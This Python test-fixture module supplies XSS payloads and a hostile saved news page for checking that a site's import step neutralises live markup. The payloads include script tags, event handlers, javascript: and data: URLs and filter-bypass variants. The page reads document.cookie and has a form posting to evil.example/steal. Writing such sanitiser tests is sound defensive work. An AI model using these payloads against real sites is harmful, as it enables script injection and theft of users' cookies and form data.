"""Hostile inputs shared by the build tests and the browser tests."""

import html

XSS = [
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')><circle r=1></svg>",
    "<a href=\"javascript:alert('XSS')\">click</a>",
    "[click](javascript:alert('XSS'))",
    "![x](javascript:alert('XSS'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=)",
    "<iframe src=javascript:alert('XSS')></iframe>",
    "<body onload=alert('XSS')>",
    "<div style=\"background:url(javascript:alert('XSS'))\">x</div>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('XSS')>",
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<a href=\"jav&#x09;ascript:alert('XSS')\">tab</a>",
    "<details open ontoggle=alert('XSS')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')>",
    "Paragraph {: onclick=\"alert('XSS')\" }",
    "{{ config.site_name }} {% include 'x' %} {{ 7*7 }}",
    "<<SCRIPT>alert('XSS');//<</SCRIPT>",
    '<input autofocus onfocus=alert("XSS")>',
    "<object data=javascript:alert('XSS')></object>",
]
"""Script and markup injections, as attack lists write them: each must stay text on the site."""

MARKERS = ("SCRIPTMARK", "STYLEMARK", "IFRAMEMARK", "FORMMARK", "HANDLERMARK", "PIXELMARK", "DATAMARK", "OBJECTMARK")
"""Words hidden in the live parts of ``HOSTILE_PAGE``: none may reach an imported article."""
HOSTILE_PAGE = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>Clubs clean the river bank in Taraz, page {number}</title>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert('XSS')">
<script>var SCRIPTMARK = document.cookie; alert('XSS')</script>
<style>.STYLEMARK {{ background: url(javascript:alert('XSS')) }}</style>
<link rel="stylesheet" href="data:text/css;base64,DATAMARK">
</head>
<body onload="HANDLERMARK()">
<article>
<h1 onmouseover="HANDLERMARK()">Clubs clean the river bank in Taraz, page {number}</h1>
<p onclick="HANDLERMARK()">TARAZ – Sixty volunteers of the clubs cleaned three kilometres of the Talas
river bank on Saturday, the organisers said.
<img src="https://tracker.example/PIXELMARK.gif" width="1" height="1" alt="PIXELMARK"></p>
<iframe src="javascript:alert('XSS')" srcdoc="<p>IFRAMEMARK</p>">IFRAMEMARK</iframe>
<p>They collected more than a tonne of rubbish and planted forty willows where the bank had washed away.
<a href="javascript:alert('XSS')" onclick="HANDLERMARK()">a link that runs</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=">a data link</a></p>
<form action="https://evil.example/steal"><input name="FORMMARK" value="FORMMARK"><button>FORMMARK</button></form>
<object data="javascript:alert('XSS')">OBJECTMARK</object><embed src="data:image/svg+xml,OBJECTMARK">
<svg onload="HANDLERMARK()"><script>SCRIPTMARK()</script></svg>
<noscript><img src="https://tracker.example/PIXELMARK.gif"></noscript>
<p>The page also says, as text: {payload_text}</p>
<div>{payload}</div>
<p>The clean-up will take place again in autumn, when the water is low and the schools are back.</p>
<script type="application/ld+json">{{"@type":"NewsArticle","headline":"SCRIPTMARK",
"datePublished":"2025-05-05"}}</script>
</article></body></html>"""
"""A saved page with every kind of live markup (scripts, styles, iframes, forms, event handlers, a
tracking pixel, ``data:`` URLs), ``{payload}`` as markup and ``{payload_text}`` as the page's text."""


def hostile_page(payload: str, number: int = 0) -> str:
    """``HOSTILE_PAGE`` with one payload of ``XSS`` as live markup and as visible text, titled with ``number``."""
    return HOSTILE_PAGE.format(payload=payload, payload_text=html.escape(payload), number=number)
